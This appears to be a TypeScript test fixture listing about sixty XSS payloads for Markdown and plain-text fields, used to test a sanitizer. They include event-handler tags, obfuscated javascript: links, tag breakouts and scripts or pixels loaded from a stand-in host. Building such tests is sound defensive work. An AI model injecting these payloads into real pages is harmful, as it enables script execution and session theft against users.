/** Called by whatever runs; a test gives it to the page. */
export const flag = 'fired7431';
/** Nothing of it may be asked for anything. */
export const outside = 'outside-7431.example';

const run = `${flag}()`;
const coded = (text: string) => [...text].map((each) => `&#${each.charCodeAt(0)};`).join('');

/** Forty-two ways to bring script, frames, styles or requests into an article. */
export const hostileMarkdown: Readonly<Record<string, string>> = {
  'a script': `<script>${run}</script>`,
  'a script from elsewhere': `<script src="https://${outside}/a.js"></script>`,
  'an image that fails': `<img src=x onerror="${run}">`,
  'an image that fails, without quotes': `<img src=x onerror=${run}>`,
  'an SVG that loads': `<svg onload=${run}>`,
  'an SVG with a slash': `<svg/onload=${run}/>`,
  'a script in an SVG': `<svg><script>${run}</script></svg>`,
  'an animation': `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  'a frame with its own page': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'a frame of script': `<iframe src="javascript:parent.${run}"></iframe>`,
  'a frame from elsewhere': `<iframe src="https://${outside}/f"></iframe>`,
  'an open list of details': `<details open ontoggle=${run}>x</details>`,
  'a field that takes the focus': `<input autofocus onfocus=${run}>`,
  'a video that fails': `<video><source onerror=${run}></video>`,
  'a sound that fails': `<audio src=x onerror=${run}></audio>`,
  'an object of script': `<object data="javascript:${run}"></object>`,
  'an embedded page': `<embed src="data:text/html,<script>alert(1)</script>">`,
  'a page that leads on': `<meta http-equiv="refresh" content="0;url=https://${outside}/r">`,
  'another base': `<base href="https://${outside}/">`,
  'a style from elsewhere': `<link rel=stylesheet href="https://${outside}/s.css">`,
  'a style that asks': `<div style="background:url(https://${outside}/b.png)">x</div><style>body{background:url(https://${outside}/c.png)}</style>`,
  'a form to elsewhere': `<form action="https://${outside}/p"><button>Go on</button></form>`,
  MathML: `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  'a comment that ends early': `<!--><img src=x onerror=${run}>-->`,
  'a text area that ends': `<textarea></textarea><img src=x onerror=${run}>`,
  'a noscript that ends': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'a template': `<template><img src=x onerror=${run}></template>`,
  'a tag with a line feed': `<img\nsrc=x\nonerror=${run}\n>`,
  'a tag that never closes': `<img src=x onerror=${run} //`,
  'a link of script': `[press](javascript:${run})`,
  'a link of script in capitals': `[press](JaVaScRiPt:${run})`,
  'a link of script with blanks': `[press](<java\tscript:${run}>)`,
  'a link of script in references': `[press](${coded('javascript:')}${run})`,
  'a link of script behind a control': `[press](\u0001javascript:${run})`,
  'a link of data': '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a link of VBScript': '[press](vbscript:msgbox(1))',
  'a link with a title that ends': `[press](https://x.example "a\\" onmouseover=${run} x=\\"")`,
  'a reference of script': `[press][1]\n\n[1]: javascript:${run}`,
  'an automatic link of script': `<javascript:${run}>`,
  'a picture from elsewhere': `![x](https://${outside}/pixel.gif)`,
  'a picture from elsewhere, by a reference': `![x][2]\n\n[2]: //${outside}/pixel.gif`,
  'a picture with a name that ends': `![x" onerror="${run}](x.png)`,
  'a fence with a name that ends': `\`\`\`"><img/src=x/onerror=${run}>\ncode\n\`\`\``,
  'a table of tags': `| a |\n|---|\n| <img src=x onerror=${run}> |`,
};

/** Sixteen for every field of plain text. */
export const hostileLines: Readonly<Record<string, string>> = {
  'a script': `<script>${run}</script>`,
  'an image that fails': `<img src=x onerror=${run}>`,
  'the end of an attribute': `"><img src=x onerror=${run}>`,
  'the end of an attribute in single quotes': `'><svg onload=${run}>`,
  'an event within an attribute': `" autofocus onfocus=${run} x="`,
  'the end of a title': `</title><svg onload=${run}>`,
  'the end of a text area': `</textarea><img src=x onerror=${run}>`,
  'the end of a record': `</script><script>${run}</script>`,
  'the end of a comment': `--><img src=x onerror=${run}>`,
  'the end of CDATA': `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  'an address of script': `javascript:${run}`,
  'a template of script': `{{constructor.constructor('${run}')()}} \${${run}}`,
  'an SVG in few letters': `<svg/onload=${run}>`,
  references: `&lt;img src=x onerror=${run}&gt;&#60;svg onload=${run}&#62;`,
  'the separators of lines': `\u2028</script><script>${run}</script>\u2029`,
  'an outside picture': `<img src=https://${outside}/x.gif>`,
};
